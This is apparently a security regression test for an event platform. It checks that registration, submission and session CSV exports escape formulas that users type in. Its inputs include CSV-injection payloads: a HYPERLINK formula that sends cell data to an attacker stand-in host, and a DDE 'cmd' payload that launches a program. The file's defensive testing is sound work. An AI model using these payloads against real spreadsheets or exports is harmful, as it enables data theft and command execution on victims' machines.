import { makeAdmin, makeUser, type TestUser } from '../factories/index.js';
import { makeRoom, makeSession, sessionBody } from '../factories/programme.js';
import { makeOpenEdition, registered } from '../factories/registrations.js';
import { openCfp, submit } from '../factories/submissions.js';
import { csvRows, formulaCells } from '../support/csv-cells.js';
import { createTestApp, type TestApp } from '../setup/test-app.js';

/** Issue 13, items 4, 8 and 9: what users type reaches exports, parsers and writers safely (each test failed before its fix). */
describe('security review: input findings', () => {
  let t: TestApp;
  let admin: TestUser;
  beforeAll(async () => {
    t = await createTestApp();
    admin = await makeAdmin(t);
  });
  afterAll(() => t.close());

  it('4. no export hands a spreadsheet a formula: registrations, sessions and submissions CSV', async () => {
    const event = await makeOpenEdition(t, admin, openCfp());
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
    const attendee = await makeUser(t, 'formula', hyperlink);
    await registered(t, attendee, event.id, 'in_person');
    const speaker = await makeUser(t, 'formula-speaker', "@SUM(1+1)*cmd|' /C calc'!A0");
    await submit(t, event.id, speaker, { title: { en: '+1+1 formula title', zh: '-2+3' } });
    const room = await makeRoom(t, admin, event.id);
    await makeSession(t, admin, event.id, sessionBody('2025-09-11', '09:00', '10:00', { roomId: room.id, title: { en: '=1+1', zh: '＝1+1' } }));

    const exports = {
      'registrations.csv': hyperlink,
      'submissions.csv': '+1+1 formula title',
      'sessions.csv': '=1+1',
    };
    for (const [file, typed] of Object.entries(exports)) {
      const res = await t.http().get(`/api/v1/events/${event.id}/${file}`).set(admin.auth).expect(200);
      expect({ file, formulas: formulaCells(res.text) }).toEqual({ file, formulas: [] });
      expect(csvRows(res.text).flat()).toContain(`'${typed}`);
    }
  });
});
